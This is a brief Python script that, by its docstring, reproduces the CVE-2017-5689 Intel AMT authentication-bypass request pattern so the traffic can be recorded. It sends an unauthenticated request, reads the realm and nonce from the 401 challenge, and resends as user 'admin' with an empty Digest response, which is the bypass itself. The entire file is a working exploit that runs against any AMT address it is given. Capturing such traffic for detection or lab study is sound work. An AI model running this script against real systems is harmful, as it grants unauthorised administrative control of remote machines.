#!/usr/bin/env python3
"""The CVE-2017-5689 (INTEL-SA-00075) request pattern, for recording: a GET
without credentials (answered by the 401 challenge), then the same request
with a Digest Authorization whose response is empty. curl cannot send that.
usage: cve_client.py CONSOLE_IP AMT_IP PORT PATH"""
import re
import socket
import sys

console, amt, port, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]


def exchange(request):
    s = socket.create_connection((amt, port), source_address=(console, 0))
    s.sendall(request)
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
        if b"\r\n\r\n" in data and not data.startswith(b"HTTP/1.1 401"):
            break  # the 200 keeps the connection open: one answer is enough
    s.close()
    return data


first = exchange(b"GET %s HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (path.encode(), amt.encode(), port))
realm = re.search(rb'realm="([^"]+)"', first).group(1)
nonce = re.search(rb'nonce="([^"]+)"', first).group(1)
auth = (b'Digest username="admin", realm="%s", nonce="%s", uri="%s", response="", qop=auth, '
        b'nc=00000001, cnonce="9c5e1a"' % (realm, nonce, path.encode()))
second = exchange(b"GET %s HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: %s\r\n\r\n"
                  % (path.encode(), amt.encode(), port, auth))
print(second.split(b"\r\n", 1)[0].decode())
